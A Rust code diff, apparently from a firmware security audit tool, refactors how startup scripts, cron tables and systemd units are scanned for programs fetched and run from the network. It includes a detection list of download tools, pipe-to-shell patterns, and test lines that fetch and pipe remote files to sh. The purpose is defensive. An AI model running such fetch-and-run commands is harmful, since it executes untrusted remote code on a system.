@@ -4,11 +4,10 @@ use std::io::{self, BufRead as _, BufReader, Read as _};
 
 use lenscap_audit::facts::{Fact, Finding, Missing, Start, Topic};
 use lenscap_harden::root::{Kind, MAX_BINARY_BYTES, Root, name_of};
-use lenscap_harden::shell;
 use lenscap_harden::survey::{Survey, contains};
 use ring::digest::{Context, SHA256, digest};
 
-use super::{Layers, MAX_ENTRIES, is_absent, missing};
+use super::{Layers, MAX_ENTRIES, fetches, is_absent, missing};
 
 /// Where packages list their files.
 const OPKG_LISTS: &str = "/usr/lib/opkg/info";
@@ -63,9 +62,6 @@ const OWN: &[(&str, &str)] = &[
         "d1d267fe3b7558f18e6cd70c33829bd2fc7cdff8912bf44ff90e05c0f18ea437",
     ),
 ];
-/// Programs that fetch files.
-const FETCHERS: &[&str] = &["wget", "curl", "tftp", "ftpget", "uclient-fetch"];
-
 /// Whether the system runs it by itself: what lies where programs are is run by others.
 fn starts_itself(path: &str) -> bool {
     // Rust's attributes begin as scripts do.
@@ -97,14 +93,14 @@ fn commands(survey: &Survey) -> impl Iterator<Item = &String> {
         .chain(read)
 }
 
-fn is_table(path: &str) -> bool {
+pub(super) fn is_table(path: &str) -> bool {
     matches!(name_of(path), "inittab" | "inetd.conf" | "crontab" | "mdev.conf")
         || ["/crontabs/", "/cron.d/", "/spool/cron/"]
             .iter()
             .any(|folder| path.contains(folder))
 }
 
-fn is_unit(path: &str) -> bool {
+pub(super) fn is_unit(path: &str) -> bool {
     path.contains("/systemd/system/")
 }
 
@@ -400,37 +396,25 @@ pub(super) fn findings(root: &Root, survey: &Survey, found: &mut Vec<Finding>) {
             text: "there is none; BusyBox then gives a shell on the console".into(),
         });
     }
-    for path in commands(survey) {
+    let tables = survey
+        .settings
+        .iter()
+        .filter(|path| is_table(path) || is_unit(path));
+    for path in commands(survey).chain(tables) {
         let Ok(text) = root.read(path) else { continue };
-        for command in shell::commands(&text) {
-            if let Some(target) = loose_program(&command.words) {
-                let text = format!("runs `{target}`");
-                add(found, Topic::Download, path, command.line, text);
+        for what in fetches::look(path, &text) {
+            add(found, Topic::Download, path, what.line, what.text);
+            if let Some(added) = found.last_mut() {
+                added.certain &= what.certain;
             }
         }
-        fetching_lines(path, &text, found);
-    }
-    let tables = survey.settings.iter();
-    for path in tables.filter(|path| is_table(path) || is_unit(path)) {
-        let Ok(text) = root.read(path) else { continue };
-        fetching_lines(path, &text, found);
-        for (line, number) in String::from_utf8_lossy(&text).lines().zip(1..) {
-            if line.trim_start().starts_with('#') || is_unit(path) && !line.starts_with("Exec") {
-                continue;
-            }
-            // `ExecStart=-/bin/x`, with signs for how it is run (systemd.service(5)).
-            let signs: &[char] = if is_unit(path) { &['-', '@', '+', '!'] } else { &[] };
-            let separator = |c: char| c.is_whitespace() || c == ':' || c == '=' && is_unit(path);
-            let words = line.split(separator).map(|word| word.trim_start_matches(signs));
-            let mut words = words.skip_while(|word| !word.starts_with('/'));
-            let first = words.next().unwrap_or_default();
-            if is_loose(first) {
-                add(found, Topic::Download, path, number, format!("runs `{first}`"));
-            }
-            if name_of(path) == "inittab"
-                && let Some(what) = open_console(root, line)
-            {
-                add(found, Topic::Console, path, number, what);
+        if name_of(path) == "inittab" {
+            for (line, number) in String::from_utf8_lossy(&text).lines().zip(1..) {
+                if !line.trim_start().starts_with('#')
+                    && let Some(what) = open_console(root, line)
+                {
+                    add(found, Topic::Console, path, number, what);
+                }
             }
         }
     }
@@ -447,36 +431,12 @@ fn add(found: &mut Vec<Finding>, topic: Topic, path: &str, line: u32, text: Stri
     }
 }
 
-fn is_loose(path: &str) -> bool {
+pub(super) fn is_loose(path: &str) -> bool {
     LOOSE.iter().any(|place| path.starts_with(place)) && !path.starts_with(CARD)
 }
 
-fn loose_program(words: &[String]) -> Option<&String> {
-    let target = match words.first().map(String::as_str) {
-        Some("." | "source" | "sh" | "ash" | "exec" | "nohup") => words.get(1),
-        _ => words.first(),
-    };
-    target.filter(|target| is_loose(target))
-}
-
-/// A program is fetched and run at once.
-fn fetching_lines(path: &str, text: &[u8], found: &mut Vec<Finding>) {
-    for (line, number) in text.split(|byte| *byte == b'\n').zip(1..) {
-        let line = line.trim_ascii();
-        let fetches = FETCHERS.iter().find(|program| contains(line, program.as_bytes()));
-        let runs = [
-            "| sh", "|sh", "| ash", "|ash", "| bash", "|bash", "chmod +x", "chmod 7",
-        ];
-        let Some(program) = fetches else { continue };
-        if !line.starts_with(b"#") && runs.iter().any(|what| contains(line, what.as_bytes())) {
-            let text = format!("fetches and runs: `{program}`{}", server(line));
-            add(found, Topic::Download, path, number, text);
-        }
-    }
-}
-
 /// Whom a line asks, without the name and password that may stand before it.
-fn server(line: &[u8]) -> String {
+pub(super) fn server(line: &[u8]) -> String {
     let line = String::from_utf8_lossy(line);
     let Some((_, rest)) = line.split_once("://") else {
         return String::new();
@@ -680,15 +640,15 @@ mod tests {
         ] {
             assert_eq!(shown("/etc/crontabs/root", line), expected);
         }
-        let mut found = Vec::new();
-        for line in [
+        let texts: Vec<String> = [
             "wget --password=geheim http://u:geheim@192.0.2.1:80/geheim | sh",
             "curl -u u:geheim https://example.org?geheim | sh",
-            "tftp -g geheim; chmod +x geheim",
-        ] {
-            fetching_lines("/x", line.as_bytes(), &mut found);
-        }
-        let texts: Vec<&str> = found.iter().map(|found| found.text.as_str()).collect();
+            "tftp -g -r geheim geheim; chmod +x geheim",
+        ]
+        .iter()
+        .flat_map(|line| fetches::look("/x", line.as_bytes()))
+        .map(|found| found.text)
+        .collect();
         assert_eq!(
             texts,
             [
